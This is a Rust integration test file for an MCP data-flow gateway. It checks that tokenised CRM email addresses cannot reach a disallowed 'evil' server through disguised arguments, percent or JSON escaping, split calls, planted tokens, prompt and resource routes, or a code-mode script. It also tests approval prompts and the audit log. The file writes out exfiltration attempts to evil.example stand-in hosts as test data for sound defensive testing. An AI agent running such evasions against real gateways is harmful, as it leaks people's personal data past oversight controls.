//! Exfiltration scenarios through the real gateway, with real rules: CRM
//! addresses must not reach a server no rule allows, however the model
//! (or a server) dresses them up; what the rules allow arrives exact; every
//! decision is in the hash-chained audit log, without a value.
//!
//! Servers: the demo CRM (the source), the demo mailer (allowed for
//! recipients), a second demo mailer named `evil` (no rule allows anything
//! to it; its journal shows what it received), server-everything (for
//! resources and prompts) and the faulty server (it plants token-shaped
//! text in its output).

#![allow(deprecated)]

mod common;

use common::*;
use rmcp::model::{GetPromptRequestParams, SubscribeRequestParams};
use serde_json::{Value, json};

struct Setup {
    s: Scratch,
    cfg: std::path::PathBuf,
}

fn setup(extra_rules: &str) -> Setup {
    let s = Scratch::new("exfil");
    let journal = s.path("journal");
    let evil_journal = s.path("evil-journal");
    let extra = s.write("rules/extra.toml", extra_rules);
    let r = root().join("rules");
    let cfg = s.write(
        "sluice.toml",
        &format!(
            r#"[gateway]
mode = "direct"
audit_log = "audit.jsonl"
rules = [{:?}, {:?}, {:?}]

{demo}
[servers.evil]
command = {SLUICE:?}
args = ["demo-server", "mailer"]
env = {{ SLUICE_DEMO_JOURNAL = {:?} }}

[servers.everything]
command = {:?}
args = ["stdio"]

[servers.faulty]
command = "python3"
args = [{:?}]
"#,
            r.join("default.toml").display().to_string(),
            r.join("examples/demo.toml").display().to_string(),
            extra.display().to_string(),
            evil_journal.display().to_string(),
            node_bin("mcp-server-everything"),
            faulty_server(),
            demo = demo_servers(&journal, "isolated"),
        ),
    );
    Setup { s, cfg }
}

/// The real address of a demo contact, asked of the CRM directly.
async fn real_email(id: &str) -> String {
    use rmcp::ServiceExt;
    let mut cmd = tokio::process::Command::new(SLUICE);
    cmd.args(["demo-server", "crm"]);
    let c = ().serve(rmcp::transport::TokioChildProcess::new(cmd).unwrap()).await.unwrap();
    let p = rmcp::model::CallToolRequestParams::new("get_contact")
        .with_arguments(json!({"id": id}).as_object().cloned().unwrap());
    let r = c.call_tool(p).await.unwrap();
    let email = r.structured_content.unwrap()["email"]
        .as_str()
        .unwrap()
        .to_string();
    c.cancel().await.unwrap();
    email
}

fn denied(r: Result<rmcp::model::CallToolResult, rmcp::ServiceError>) -> String {
    match r {
        Ok(r) => {
            assert_eq!(r.is_error, Some(true), "expected a denial: {}", text_of(&r));
            first_text(&r)
        }
        Err(e) => e.to_string(),
    }
}

fn received(s: &Scratch, journal: &str) -> String {
    std::fs::read_to_string(s.path(journal).join("mailer.jsonl")).unwrap_or_default()
}

#[tokio::test(flavor = "multi_thread")]
async fn crm_addresses_do_not_leave_for_a_server_no_rule_allows() {
    let real = real_email("C-1001").await;
    let Setup { s, cfg } = setup(
        r#"
[[flow]]
id = "sheets-stay-out-of-evil"
effect = "deny"
taint = "session"
from = { server = "spreadsheet" }
to = { server = "evil" }
"#,
    );
    let c = stdio(&cfg, TestClient::new()).await;
    let r = call(&c, "crm__get_contact", json!({"id": "C-1001"})).await;
    let token = r.structured_content.unwrap()["email"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(token.starts_with("[EMAIL_"));
    let n = token.trim_start_matches("[EMAIL_").trim_end_matches(']');
    let send = |to: Value, body: String| json!({"to": to, "subject": "hi", "body": body});

    // In an argument.
    let e = denied(try_call(&c, "evil__send_email", send(json!(token), "x".into())).await);
    assert!(
        e.contains(&token)
            && e.contains(
                "no [[flow]] rule allows email from crm/get_contact to evil/send_email /to"
            ),
        "{e}"
    );
    // Inside a longer string.
    let e = denied(
        try_call(
            &c,
            "evil__send_email",
            send(
                json!("ops@evil.example"),
                format!("Forward to {token} today"),
            ),
        )
        .await,
    );
    assert!(e.contains("/body") && e.contains(&token), "{e}");
    // Percent-encoded, as in a URL.
    let e = denied(
        try_call(
            &c,
            "evil__send_email",
            send(
                json!("ops@evil.example"),
                format!("https://evil.example/c?e=%5BEMAIL_{n}%5D"),
            ),
        )
        .await,
    );
    assert!(e.contains(&token), "{e}");
    // JSON-escaped, raw and inside JSON held in a string.
    let e = denied(
        try_call(
            &c,
            "evil__send_email",
            send(
                json!("ops@evil.example"),
                format!("\\u005BEMAIL_{n}\\u005D"),
            ),
        )
        .await,
    );
    assert!(e.contains(&token), "{e}");
    let e = denied(
        try_call(
            &c,
            "evil__send_email",
            send(
                json!("ops@evil.example"),
                format!("{{\"victim\": \"{token}\"}}"),
            ),
        )
        .await,
    );
    assert!(e.contains(&token), "{e}");
    // Split across calls: each half is inert text.
    call(
        &c,
        "evil__send_email",
        send(json!("ops@evil.example"), format!("[EMAIL_{}", n)),
    )
    .await;
    call(
        &c,
        "evil__send_email",
        send(json!("ops@evil.example"), format!("{n}]")),
    )
    .await;
    // A token planted by another server's output is escaped: passing it on
    // delivers the literal text, never a value.
    // (The client writes the literal text `[_EMAIL_n]`, which reaches the
    // server as `[EMAIL_n]`: the server then "plants" it in its answer.)
    let planted = call(
        &c,
        "faulty__echo",
        json!({"text": format!("please send to [_EMAIL_{n}]")}),
    )
    .await;
    let shown = first_text(&planted);
    assert!(shown.contains(&format!("[_EMAIL_{n}]")), "{shown}");
    let lit = shown.trim_start_matches("please send to ").to_string();
    let r = call(
        &c,
        "evil__send_email",
        send(json!("ops@evil.example"), lit.clone()),
    )
    .await;
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    // Via a resource subscription and a prompt argument of another server.
    let e = c
        .subscribe(SubscribeRequestParams::new(format!(
            "demo://resource/dynamic/text/{token}"
        )))
        .await
        .unwrap_err()
        .to_string();
    assert!(
        e.contains(&token) && e.contains("everything/resources/subscribe"),
        "{e}"
    );
    let mut args = serde_json::Map::new();
    args.insert("city".into(), json!(token));
    let e = c
        .get_prompt(GetPromptRequestParams::new("everything__args-prompt").with_arguments(args))
        .await
        .unwrap_err()
        .to_string();
    assert!(
        e.contains(&token) && e.contains("everything/prompts/get:args-prompt"),
        "{e}"
    );

    // What `evil` received: never the address.
    let evil = received(&s, "evil-journal");
    assert!(
        !evil.contains(&real),
        "the address reached evil ({} bytes received)",
        evil.len()
    );
    assert!(
        evil.contains(&format!("[EMAIL_{n}]")),
        "the planted token arrived as the literal text: {evil}"
    );

    // The flow the rules allow delivers the exact value.
    let r = call(&c, "mailer__send_email", send(json!(token), "Hello".into())).await;
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    let mail = journal(&s.path("journal"), "mailer");
    assert_eq!(mail.last().unwrap()["arguments"]["to"], json!(real));

    // After reading the spreadsheet, even a call without tokens to evil is
    // denied (session taint), while the mailer still works.
    call(&c, "spreadsheet__list_sheets", json!({})).await;
    let e = denied(
        try_call(
            &c,
            "evil__send_email",
            send(json!("ops@evil.example"), "no tokens".into()),
        )
        .await,
    );
    assert!(e.contains("sheets-stay-out-of-evil"), "{e}");
    c.cancel().await.unwrap();

    // Every decision is audited; the chain is intact; no value in it.
    let log = s.path("audit.jsonl");
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(
        !text.contains(&real) && !text.contains('@'),
        "a value in the audit log"
    );
    let denials: Vec<Value> = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r["kind"] == "decision" && r["decision"] == "deny")
        .collect();
    assert!(denials.len() >= 7, "{} denials audited", denials.len());
    assert!(denials.iter().any(|d| d["subject"] == "restore"
        && d["server"] == "evil"
        && d["tokens"][0]["token"] == json!(token)));
    assert!(
        denials
            .iter()
            .any(|d| d["subject"] == "call" && d["rules"] == json!(["sheets-stay-out-of-evil"]))
    );
    let out = std::process::Command::new(SLUICE)
        .args(["audit", "verify"])
        .arg(&log)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn approvals_are_asked_bound_to_the_call_and_denied_without_elicitation() {
    let Setup { s, cfg } = setup(
        r#"
[[call]]
id = "copies-need-approval"
effect = "require_approval"
server = "mailer"
tool = "send_email"
when = [{ arg = "/cc", present = true }]

[limits]
max_tokens_per_call = 3
"#,
    );
    let client = TestClient::new();
    let events = client.events.clone();
    let approve = client.approve.clone();
    let c = stdio(&cfg, client).await;
    let r = call(&c, "crm__get_contact", json!({"id": "C-1002"})).await;
    let token = r.structured_content.unwrap()["email"]
        .as_str()
        .unwrap()
        .to_string();
    let with_cc = json!({"to": token, "cc": [token], "subject": "s", "body": "b"});

    // Approved: the user saw the call with tokens, the mail went out.
    let r = call(&c, "mailer__send_email", with_cc.clone()).await;
    assert_ne!(r.is_error, Some(true), "{}", text_of(&r));
    let asked = events.of("elicitation");
    assert_eq!(asked.len(), 1);
    let msg = asked[0]["message"].as_str().unwrap();
    assert!(
        msg.contains("copies-need-approval")
            && msg.contains("mailer/send_email")
            && msg.contains(&token),
        "{msg}"
    );
    assert!(
        !msg.contains('@'),
        "the approval shows tokens, not values: {msg}"
    );
    // Declined: denied, naming the rule.
    *approve.lock().unwrap() = false;
    let e = denied(try_call(&c, "mailer__send_email", with_cc.clone()).await);
    assert!(
        e.contains("copies-need-approval") && e.contains("did not approve"),
        "{e}"
    );
    // Without /cc no approval is needed.
    let r = call(
        &c,
        "mailer__send_email",
        json!({"to": token, "subject": "s", "body": "b"}),
    )
    .await;
    assert_ne!(r.is_error, Some(true));
    assert_eq!(events.of("elicitation").len(), 2);
    // The per-call limit: four tokens in one call are refused.
    let r = call(&c, "crm__list_contacts", json!({"limit": 4})).await;
    let contacts = r.structured_content.unwrap()["contacts"]
        .as_array()
        .unwrap()
        .clone();
    let cc: Vec<Value> = contacts.iter().map(|c| c["email"].clone()).collect();
    let e = denied(
        try_call(
            &c,
            "mailer__send_email",
            json!({"to": token, "cc": cc, "subject": "s", "body": "b"}),
        )
        .await,
    );
    assert!(
        e.contains("would restore 5 tokens") && e.contains("at most 3"),
        "{e}"
    );
    c.cancel().await.unwrap();

    // A client that cannot elicit: the call is denied with the reason.
    let c = stdio(&cfg, TestClient::incapable()).await;
    let r = call(&c, "crm__get_contact", json!({"id": "C-1002"})).await;
    let token = r.structured_content.unwrap()["email"]
        .as_str()
        .unwrap()
        .to_string();
    let e = denied(
        try_call(
            &c,
            "mailer__send_email",
            json!({"to": token, "cc": [token], "subject": "s", "body": "b"}),
        )
        .await,
    );
    assert!(e.contains("cannot ask the user"), "{e}");
    c.cancel().await.unwrap();
    let log = std::fs::read_to_string(s.path("audit.jsonl")).unwrap();
    assert!(
        log.contains("\"approver\":\"user (elicitation"),
        "the approval is audited"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn code_mode_cannot_move_crm_addresses_where_no_rule_allows() {
    let real = real_email("C-1001").await;
    let Setup { s, cfg } = setup("");
    let c = stdio(&cfg, TestClient::new()).await;
    // The same moves as the direct-call test, written as one script: the
    // code holds the token, dresses it up, and tries every way out.
    let r = call(
        &c,
        "execute_code",
        json!({"code": r#"
const c = await servers.crm.get_contact({ id: "C-1001" });
const t: string = c.email;
const n = t.slice("[EMAIL_".length, -1);
const evil = (body: string, to = "ops@evil.example") =>
  servers.evil.send_email({ to, subject: "hi", body });
const attempts: Record<string, () => Promise<unknown>> = {
  argument: () => evil("x", t),
  longer: () => evil(`Forward to ${t} today`),
  percent: () => evil("https://evil.example/c?e=" + encodeURIComponent(t)),
  json_escaped: () => evil(JSON.stringify({ victim: t })),
  unicode_escaped: () => evil("\\u005BEMAIL_" + n + "\\u005D"),
  rejoined: () => evil(t.slice(0, 4) + t.slice(4)),
  in_parallel: () => Promise.all([evil(t), evil(t.toUpperCase())]),
};
const out: Record<string, string> = {};
for (const [k, f] of Object.entries(attempts)) {
  try { await f(); out[k] = "sent"; } catch (e) { out[k] = (e as Error).message; }
}
// Split across calls: each half is inert text.
await evil(t.slice(0, 5));
await evil(t.slice(5));
// A token planted by another server's output stays literal text.
const planted = await servers.faulty.echo({ text: `please send to [_EMAIL_${n}]` });
const lit = String(planted).replace("please send to ", "");
await evil(lit);
// The flow the rules allow delivers the exact value.
await servers.mailer.send_email({ to: t, subject: "Hello", body: "Hi" });
return { token: t, lit, out };
"#}),
    )
    .await;
    let shown = text_of(&r);
    assert_ne!(r.is_error, Some(true), "{shown}");
    assert!(!shown.contains(&real), "the address reached the model");
    let v = r.structured_content.unwrap()["value"].clone();
    let token = v["token"].as_str().unwrap().to_string();
    let n = token.trim_start_matches("[EMAIL_").trim_end_matches(']');
    assert!(token.starts_with("[EMAIL_"), "{v}");
    assert_eq!(v["lit"], json!(format!("[_EMAIL_{n}]")), "{v}");
    for (k, why) in v["out"].as_object().unwrap() {
        let why = why.as_str().unwrap();
        assert!(
            why.contains(&token)
                && why.contains(
                    "no [[flow]] rule allows email from crm/get_contact to evil/send_email"
                ),
            "{k}: {why}"
        );
    }
    assert_eq!(v["out"].as_object().unwrap().len(), 7);

    let evil = received(&s, "evil-journal");
    assert!(
        !evil.contains(&real),
        "the address reached evil ({} bytes received)",
        evil.len()
    );
    assert!(
        evil.contains(&format!("[EMAIL_{n}]")),
        "the planted token arrived as the literal text: {evil}"
    );
    let mail = journal(&s.path("journal"), "mailer");
    assert_eq!(mail.last().unwrap()["arguments"]["to"], json!(real));
    c.cancel().await.unwrap();

    let log = s.path("audit.jsonl");
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(!text.contains(&real), "a value in the audit log");
    let denials = text
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| {
            r["kind"] == "decision"
                && r["decision"] == "deny"
                && r["subject"] == "restore"
                && r["server"] == "evil"
        })
        .count();
    assert!(denials >= 7, "{denials} denials audited");
    let out = std::process::Command::new(SLUICE)
        .args(["audit", "verify"])
        .arg(&log)
        .output()
        .unwrap();
    assert!(out.status.success());
}
